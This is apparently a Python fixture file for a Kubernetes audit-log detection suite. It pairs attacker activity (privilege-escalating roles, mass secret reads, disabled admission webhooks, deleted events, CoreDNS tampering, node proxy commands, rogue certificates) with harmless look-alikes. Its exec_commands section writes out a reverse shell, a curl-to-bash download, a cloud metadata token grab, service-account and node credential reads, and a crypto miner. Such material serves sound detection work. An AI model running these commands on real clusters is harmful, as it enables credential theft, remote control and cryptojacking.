"""Rights, secrets, shells and the cluster's own machinery in the wrong hands, each beside harmless requests that look like them."""

from __future__ import annotations

from dataclasses import replace
from datetime import timedelta
from functools import partial
from urllib.parse import quote

from scripts.recorded_logs import identities as who
from scripts.recorded_logs.kube import COMPLETE, RECEIVED, STARTED, TOO_BIG, Call, Json, at
from scripts.recorded_logs.objects import RBAC, stored

_ROLES = f"{RBAC}/v1/clusterroles"
_ONCE = (COMPLETE,)
_EXEC_OPEN = (RECEIVED, STARTED)
_EXEC = (RECEIVED, STARTED, COMPLETE)


def _role(name: str, *rules: tuple[list[str], list[str]], namespace: str = "", **metadata: Json) -> Json:
    """A Role or ClusterRole; a rule is (verbs, resources)."""
    named = {"name": name, **({"namespace": namespace} if namespace else {}), **metadata}
    listed = [{"verbs": verbs, "apiGroups": ["*"], "resources": resources} for verbs, resources in rules]
    return {"kind": "Role" if namespace else "ClusterRole", "apiVersion": f"{RBAC}/v1", "metadata": named, "rules": listed}


def escalating_role() -> list[Call]:
    """Roles with the rights of an administrator under harmless names: wildcards, escalate and bind, shells, tokens, all secrets."""
    do = partial(Call, who=who.MALLORY, resource=_ROLES, verb="create", code=201)
    everything = _role("log-reader", (["*"], ["*"]))
    granting = _role("grants", (["get"], ["pods"]), (["bind", "escalate"], ["clusterroles"]), namespace="web")
    read_all, shells = _role("inventory", (["get", "list"], ["pods", "secrets"])), _role("support", (["create"], ["pods/exec"]))
    added = [{"op": "add", "path": "/rules/-", "value": {"verbs": ["get"], "apiGroups": [""], "resources": ["nodes/proxy"]}}]
    metrics = _role("metrics", (["get"], ["nodes/metrics"]), (["get"], ["nodes/proxy"]))
    return [
        do(at=at("08:10:01"), name="log-reader", body=everything, answer=stored(everything, 301)),
        do(
            at=at("08:10:11"),
            resource=f"{RBAC}/v1/roles",
            namespace="web",
            name="grants",
            body=granting,
            answer=stored(granting, 302),
        ),
        do(at=at("08:10:21"), verb="patch", name="inventory", body=read_all, answer=stored(read_all, 303)),
        do(at=at("08:10:31"), verb="update", name="support", body=shells, answer=stored(shells, 304), code=200),
        do(at=at("08:10:41"), verb="patch", name="metrics", body=added, answer=stored(metrics, 305), code=200),
        do(at=at("08:10:51"), name="padded", body=TOO_BIG, answer=TOO_BIG),
    ]


def escalating_role_harmless() -> list[Call]:
    """Reading roles, one that may read the secrets of its own namespace, a dry run, a refusal, and the platform's own updates."""
    do = partial(Call, who=who.ALICE, resource=_ROLES, verb="create", code=201)
    viewer = _role("viewer", (["get", "list", "watch"], ["pods", "services"]), (["*"], ["configmaps"]))
    local, admin = _role("local", (["get"], ["secrets"]), namespace="web"), _role("admin", (["*"], ["*"]))
    return [
        do(at=at("08:10:01"), name="viewer", body=viewer, answer=stored(viewer, 311)),
        do(at=at("08:10:03"), resource=f"{RBAC}/v1/roles", namespace="web", name="local", body=local, answer=stored(local, 312)),
        do(at=at("08:10:05"), name="all", query="dryRun=All", body=admin, answer=admin),
        do(at=at("08:10:07"), name="all", body=admin, code=403, decision="forbid", message="clusterroles is forbidden"),
        do(
            at=at("08:10:09"),
            who=who.controller("clusterrole-aggregation-controller"),
            verb="patch",
            name="admin",
            body=admin,
            answer=stored(admin, 313),
            code=200,
        ),
        do(at=at("08:10:11"), verb="delete", name="all", code=200),
    ]


def _exec(moment: str, *command: str, **more: Json) -> Call:
    query = "&".join([*(f"command={quote(part, safe='')}" for part in command), "container=web&stdin=true&stdout=true"])
    call = Call(
        at=at(moment),
        who=who.MALLORY,
        verb="create",
        resource="v1/pods",
        namespace="web",
        name="web-6c8f0-0",
        subresource="exec",
        query=query,
        code=101,
        stages=_EXEC,
        lasts=4000.0,
    )
    return replace(call, **more)


def exec_commands() -> list[Call]:
    """Commands run in a pod: the instance's identity, a reverse shell, tokens, the node's credentials, decoded text, a miner."""
    metadata = "http://169.254.169.254/metadata/identity/oauth2/token?resource=https://management.azure.com/"
    return [
        _exec("08:30:01", "curl", "-s", "-H", "Metadata:true", metadata),
        _exec("08:30:11", "sh", "-c", "bash -i >& /dev/tcp/203.0.113.40/4444 0>&1"),
        _exec("08:30:21", "cat", "/var/run/secrets/kubernetes.io/serviceaccount/token", verb="get"),
        _exec("08:30:31", "cat", "/host/etc/kubernetes/azure.json"),
        _exec("08:30:41", "sh", "-c", "echo aWQK | base64 -d | sh"),
        _exec("08:30:51", "curl", "http://2852039166/metadata/instance"),
        _exec("08:31:01", "sh", "-c", "curl -s http://203.0.113.40/x | bash"),
        _exec("08:31:11", "/tmp/xmrig", "-o", "stratum+tcp://pool.example.net:3333"),
    ]


def exec_harmless() -> list[Call]:
    """Shells and commands of support: nothing in them reaches for credentials; and an attempt that was refused."""
    return [
        _exec("08:30:01", "/bin/sh"),
        _exec("08:30:03", "ls", "-l", "/var/run"),
        _exec("08:30:05", "curl", "-s", "http://localhost:8080/healthz"),
        _exec("08:30:07", "cat", "/etc/hosts"),
        _exec("08:30:09", "sh", "-c", "echo encode | base64"),
        _exec("08:30:11", "cat", "/etc/shadow", code=403, decision="forbid", message="pods/exec is forbidden", stages=_ONCE, lasts=0.01),
    ]


def secrets_listed() -> list[Call]:
    """All secrets at once: listed or watched over the whole cluster, and those of kube-system."""
    do = partial(Call, who=who.MALLORY, verb="list", resource="v1/secrets")
    return [
        do(at=at("11:00:01"), query="limit=500"),
        do(at=at("11:00:40"), verb="watch", query="watch=true", stages=(STARTED, COMPLETE), lasts=3000.0),
        do(at=at("11:01:20"), namespace="kube-system"),
        do(at=at("11:02:00"), who=who.WEB_POD, query="limit=500"),
    ]


def secrets_listed_harmless() -> list[Call]:
    """The secrets of one namespace, a refusal, config maps, and a controller that watches everything."""
    do = partial(Call, who=who.ALICE, verb="list", resource="v1/secrets")
    return [
        do(at=at("11:00:01"), namespace="web"),
        do(at=at("11:00:05"), code=403, decision="forbid", message="secrets is forbidden", stages=_ONCE),
        do(at=at("11:00:09"), resource="v1/configmaps"),
        do(at=at("11:00:13"), who=who.controller("generic-garbage-collector"), query="limit=500", stages=_ONCE),
    ]


def secrets_burst() -> list[Call]:
    """A stolen token reads fourteen secrets of two namespaces by name, one every forty seconds."""
    return [
        Call(
            at=at("11:31:00") + timedelta(seconds=40 * number),
            who=who.WEB_POD,
            verb="get",
            resource="v1/secrets",
            namespace="web" if number % 2 else "shop",
            name=f"secret-{number}",
            stages=_ONCE,
        )
        for number in range(14)
    ]


def secrets_slowly() -> list[Call]:
    """The same fourteen secrets in five hours, and one secret read again and again."""
    slow = [replace(call, at=at("07:00:00") + timedelta(minutes=20 * number)) for number, call in enumerate(secrets_burst())]
    again = [replace(call, name="web-tls", namespace="web", who=who.CERT_MANAGER) for call in secrets_burst()]
    return sorted([*slow, *again], key=lambda call: call.at)


def admission() -> list[Call]:
    """An admission webhook of somebody else's, a policy whose failures are ignored from now on, and guards that are taken away."""
    api = "admissionregistration.k8s.io/v1"
    hook = {
        "kind": "MutatingWebhookConfiguration",
        "metadata": {"name": "injector"},
        "webhooks": [{"name": "a.example.net", "clientConfig": {"url": "https://hooks.example.net/mutate"}, "failurePolicy": "Ignore"}],
    }
    guard = {
        "kind": "ValidatingWebhookConfiguration",
        "metadata": {"name": "gatekeeper"},
        "webhooks": [{"name": "g", "clientConfig": {"service": {"name": "gatekeeper"}}, "failurePolicy": "Ignore"}],
    }
    relaxed = [{"op": "replace", "path": "/webhooks/0/failurePolicy", "value": "Ignore"}]
    do = partial(Call, who=who.MALLORY, verb="delete")
    return [
        do(
            at=at("12:00:01"),
            verb="create",
            resource=f"{api}/mutatingwebhookconfigurations",
            name="injector",
            body=hook,
            answer=stored(hook, 321),
            code=201,
        ),
        do(
            at=at("12:00:11"),
            verb="patch",
            resource=f"{api}/validatingwebhookconfigurations",
            name="gatekeeper",
            body=relaxed,
            answer=stored(guard, 322),
        ),
        do(at=at("12:00:21"), resource=f"{api}/validatingwebhookconfigurations", name="gatekeeper"),
        do(at=at("12:00:31"), resource=f"{api}/validatingadmissionpolicybindings", name="no-privileged"),
    ]


def admission_harmless() -> list[Call]:
    """A renewed certificate of a webhook, the platform's own, a dry run, a refusal, a read."""
    hooks = "admissionregistration.k8s.io/v1/validatingwebhookconfigurations"
    injector = who.pod_account("cert-manager", "cert-manager-cainjector", "10.244.1.21", "cert-manager-cainjector/v1.14.3")
    renewed = [{"op": "replace", "path": "/webhooks/0/clientConfig/caBundle", "value": "MDAw"}]
    merged = {"webhooks": [{"name": "g", "clientConfig": {"caBundle": "MDAw"}}]}
    do = partial(Call, who=who.ALICE, resource=hooks, name="gatekeeper")
    return [
        do(at=at("12:00:01"), who=injector, verb="patch", body=renewed),
        do(at=at("12:00:03"), who=injector, verb="update", body=merged),
        do(at=at("12:00:05"), who=who.AKS_SERVICE, verb="update", name="aks-node-validating-webhook", body={"webhooks": []}),
        do(at=at("12:00:07"), verb="delete", query="dryRun=All"),
        do(at=at("12:00:09"), verb="delete", code=403, decision="forbid", message="validatingwebhookconfigurations is forbidden"),
        do(at=at("12:00:11"), verb="get"),
    ]


def events_deleted() -> list[Call]:
    """Events deleted to hide what happened, in both API groups; an attempt that was refused and the end of a namespace are none."""
    do = partial(Call, who=who.MALLORY, verb="deletecollection", resource="v1/events", namespace="web")
    return [
        do(at=at("12:30:01")),
        do(at=at("12:30:11"), verb="delete", resource="events.k8s.io/v1/events", name="web-0.17a"),
        do(at=at("12:30:21"), code=403, decision="forbid", message="events is forbidden"),
        do(at=at("12:30:31"), who=who.controller("namespace-controller"), namespace="ci-1842"),
        do(at=at("12:30:41"), verb="list"),
    ]


def core_dns() -> list[Call]:
    """Name resolution of the whole cluster changed: the supported config map, the built-in one, the Deployment, a Corefile of one's own."""
    do = partial(Call, who=who.MALLORY, namespace="kube-system")
    maps = partial(do, resource="v1/configmaps")
    return [
        maps(at=at("13:20:01"), verb="patch", name="coredns-custom"),
        maps(at=at("13:20:11"), verb="update", name="coredns"),
        do(at=at("13:20:21"), verb="patch", resource="apps/v1/deployments", name="coredns", body={"spec": {}}),
        maps(at=at("13:20:31"), verb="create", name="coredns-custom", code=201),
        maps(at=at("13:20:41"), verb="get", name="coredns-custom"),
        maps(at=at("13:20:51"), verb="patch", name="coredns-custom", query="dryRun=All"),
        maps(at=at("13:21:01"), verb="patch", name="coredns", namespace="web"),
        maps(at=at("13:21:11"), verb="update", name="coredns", who=who.AKS_SERVICE),
    ]


def anonymous() -> list[Call]:
    """Requests without an identity that were allowed: pods listed, the API explored; probes and a refusal are ordinary."""
    do = partial(Call, who=replace(who.ANONYMOUS_PROBE, source_ips=("203.0.113.77",), user_agent="curl/8.5.0"), verb="list")
    granted = 'RBAC: allowed by ClusterRoleBinding "anon" of ClusterRole "view" to Group "system:unauthenticated"'
    return [
        do(at=at("14:20:01"), resource="v1/pods", reason=granted),
        do(at=at("14:20:11"), resource="/api/v1/namespaces/kube-system/pods", verb="get", reason=granted),
        do(at=at("14:20:21"), resource="/livez", verb="get", query="verbose"),
        do(at=at("14:20:31"), resource="/version", verb="get"),
        do(at=at("14:20:41"), resource="v1/secrets", code=403, decision="forbid", message="secrets is forbidden"),
    ]


def self_review() -> list[Call]:
    """A pod asks for the first time what it may do (`kubectl auth can-i`); an operator asks as always, and so does a dashboard."""
    rules, access = "authorization.k8s.io/v1/selfsubjectrulesreviews", "authorization.k8s.io/v1/selfsubjectaccessreviews"
    do = partial(Call, verb="create", code=201, stages=_ONCE)
    return [
        do(at=at("06:00:00", "2026-02-25"), who=who.CERT_MANAGER, resource=access),
        do(at=at("14:40:01"), who=who.CERT_MANAGER, resource=access),
        do(at=at("14:41:01"), who=who.WEB_POD, resource=rules),
        do(at=at("14:41:03"), who=who.WEB_POD, resource=access),
        do(at=at("14:42:01"), who=who.BOB, resource=rules),
    ]


def node_proxy() -> list[Call]:
    """The kubelet reached through the API server: pods, a command, logs and a checkpoint of a container; reading metrics is ordinary."""
    do = partial(Call, who=who.MALLORY, verb="get", resource="v1/nodes", name="aks-pool1-12345678-vmss000000")
    return [
        do(at=at("15:00:01"), subresource="proxy", path="runningpods/"),
        do(at=at("15:00:11"), verb="create", subresource="proxy", path="run/web/web-0/main", query="cmd=id"),
        do(at=at("15:00:21"), subresource="proxy", path="containerLogs/web/web-0/main"),
        do(at=at("15:00:31"), verb="create", subresource="proxy", path="checkpoint/web/web-0/main"),
        do(at=at("15:00:41"), who=who.METRICS, subresource="proxy", path="metrics/cadvisor"),
        do(at=at("15:00:51"), who=who.METRICS, subresource="proxy", path="stats/summary"),
        do(at=at("15:01:01"), subresource="proxy", path="pods", code=403, decision="forbid", message="nodes is forbidden"),
    ]


def certificates() -> list[Call]:
    """A client certificate asked for and approved by hand; the serving certificates of nodes are ordinary."""
    requests = "certificates.k8s.io/v1/certificatesigningrequests"
    do = partial(Call, who=who.MALLORY, resource=requests, name="dev-access")
    wanted = {
        "kind": "CertificateSigningRequest",
        "metadata": {"name": "dev-access"},
        "spec": {"signerName": "kubernetes.io/kube-apiserver-client", "usages": ["client auth"], "expirationSeconds": 31536000},
    }
    approved = {**wanted, "status": {"conditions": [{"type": "Approved", "status": "True", "reason": "KubectlApprove"}]}}
    serving = {
        **wanted,
        "metadata": {"name": "csr-x7k2p"},
        "spec": {"signerName": "kubernetes.io/kubelet-serving", "usages": ["server auth"]},
    }
    denied = {**wanted, "status": {"conditions": [{"type": "Denied", "status": "True"}]}}
    return [
        do(at=at("15:30:01"), verb="create", body=wanted, answer=stored(wanted, 331), code=201),
        do(at=at("15:30:11"), verb="update", subresource="approval", body=approved, answer=stored(approved, 331)),
        do(at=at("15:30:21"), who=who.node(0), verb="create", name="csr-x7k2p", body=serving, answer=stored(serving, 332), code=201),
        do(
            at=at("15:30:31"),
            who=who.controller("certificate-controller"),
            verb="update",
            name="csr-x7k2p",
            subresource="approval",
            body=serving,
        ),
        do(at=at("15:30:41"), who=who.ALICE, verb="update", name="other", subresource="approval", body=denied, answer=stored(denied, 333)),
        do(at=at("15:30:51"), verb="create", query="dryRun=All", body=wanted, answer=wanted, code=201),
    ]
